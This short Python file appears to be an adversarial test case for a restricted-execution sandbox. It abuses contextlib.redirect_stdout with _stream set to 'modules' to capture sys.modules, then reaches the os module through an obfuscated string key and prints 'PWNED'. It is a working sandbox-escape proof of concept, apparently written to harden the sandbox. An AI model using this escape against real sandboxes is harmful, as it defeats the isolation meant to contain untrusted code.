# adversary round 7: variant of 006: _stream='modules' - the library getattr(sys, 'modules') returns the sys.modules dict, which check_value does not refuse (only modules, module namespaces, frames, code); it lands in _old_targets (an instance attribute, not in the stdlib private list) before the setattr is refused
import contextlib

class R(contextlib.redirect_stdout):
    _stream = 'modules'

cm = R(None)
try:
    with cm:
        pass
except PermissionError as e:
    print('setattr refused as expected:', e)
mods = cm._old_targets[0]
o = mods['o' + 's']
print(type(mods).__name__, len(mods), o.__name__, 'pid', o.getpid())
print('PWN' + 'ED')
